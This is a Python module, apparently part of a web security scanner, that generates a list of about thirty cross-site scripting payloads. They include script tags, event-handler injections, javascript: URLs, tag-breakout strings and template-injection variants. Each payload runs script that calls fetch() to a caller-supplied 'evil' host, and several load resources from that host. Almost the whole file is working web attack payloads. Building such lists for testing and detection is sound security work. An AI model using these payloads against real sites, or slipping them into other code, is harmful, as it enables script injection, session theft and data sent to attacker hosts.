"""Texts that are scripts where somebody forgets to escape them; each tells an address of its own that it ran."""

from __future__ import annotations

_SCRIPT = "window.xss||(window.xss=1,alert(1),fetch('{evil}/f'))"
"""Once a page: what runs when it gets the focus gets it again when the dialog closes."""
FORMS = (
    "<script>{js}</script>",
    "<ScRiPt src={evil}/s.js></sCrIpT>",
    "<img src=x onerror=\"{js}\">",
    "<img src={evil}/pixel>",
    "<svg onload=\"{js}\">",
    "<svg><script>{js}</script></svg>",
    "\"><script>{js}</script>",
    "' autofocus onfocus=\"{js}\" x='",
    "'><img src=x onerror=\"{js}\">",
    "</title><script>{js}</script>",
    "</script><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "--><script>{js}</script><!--",
    "<iframe src=\"javascript:{js}\"></iframe>",
    "<iframe srcdoc=\"<script>{js}</script>\"></iframe>",
    "<body onload=\"{js}\">",
    "<input autofocus onfocus=\"{js}\">",
    "<details open ontoggle=\"{js}\"><summary>x</summary></details>",
    "<video><source onerror=\"{js}\"></video>",
    "<math><mtext><img src=x onerror=\"{js}\"></mtext></math>",
    "<a href=\"javascript:{js}\">x</a>",
    "<object data=\"{evil}/o\"></object>",
    "<embed src=\"{evil}/e\">",
    "<link rel=stylesheet href=\"{evil}/c.css\">",
    "<style>@import url({evil}/i.css);</style>",
    "<meta http-equiv=refresh content=\"0;url={evil}/m\">",
    "<base href=\"{evil}/\"><script src=s.js></script>",
    "<form action=\"{evil}/p\"><button autofocus onfocus=\"{js}\">x</button></form>",
    "{{{{constructor.constructor(`{js}`)()}}}}${{{js}}}<%= 7*7 %>",
    "&lt;img src=x onerror={js}&gt;%3Cscript%3E\\u003cscript\\u003e<noscript><p title=\"</noscript><img src=x onerror='{js}'>\">",
)  # fmt: skip


def payloads(evil: str) -> list[str]:
    """Return all of them; `evil` is the address that hears of those that run."""
    script = _SCRIPT.format(evil=evil)
    return [form.format(js=script, evil=evil) for form in FORMS]
